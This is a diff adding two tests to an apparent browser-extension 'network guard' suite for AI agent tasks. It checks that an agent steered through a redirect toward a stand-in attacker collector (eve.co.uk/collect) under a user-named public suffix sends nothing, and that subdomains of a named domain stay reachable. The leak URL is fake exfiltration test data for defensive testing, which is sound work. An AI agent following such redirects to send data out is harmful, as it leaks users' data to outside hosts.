@@ -128,6 +128,31 @@ describe('network guard', () => {
     await opened.close().catch(() => {});
   });
 
+  test('a public suffix the user names is nobody’s site: a page under it stays outside the task', T, async () => {
+    const port = new URL(attacker.url).port;
+    const leak = `http://eve.co.uk:${port}/collect?d=suffix-7731`;
+    const task = await startTask(`Compare prices on co.uk:${port} shops.`, [
+      actions({ type: 'navigate', url: `${h.site.url}/net-out?to=${encodeURIComponent(leak)}` }),
+      done('Could not compare.'),
+    ]);
+    await finish(task);
+    assert.deepEqual(collected(), [], 'the page under the named suffix received nothing');
+  });
+
+  test('control: a registrable domain the user names covers its subdomains (the list the extension ships)', T, async () => {
+    const port = new URL(attacker.url).port;
+    const docs = `http://docs.ada.co.uk:${port}/named?d=named-site`;
+    const task = await startTask(`Open the docs of ada.co.uk:${port}.`, [
+      actions({ type: 'navigate', url: `${h.site.url}/net-out?to=${encodeURIComponent(docs)}` }),
+      done('Opened.'),
+    ]);
+    await finish(task);
+    await waitFor('the named site’s subdomain to be reached', async () =>
+      attacker.requests().some((r) => r.url === '/named?d=named-site' && r.host === `docs.ada.co.uk:${port}`),
+    );
+    assert.deepEqual(await task.msg.notes.allInnerTexts(), [], 'nothing was blocked');
+  });
+
   test('control: same-origin navigation and POST work during a task; after it the rules are gone', T, async () => {
     const task = await startTask('Save a draft, then go to the next page.', [
       actions({ type: 'click', selector: '#same-post' }),
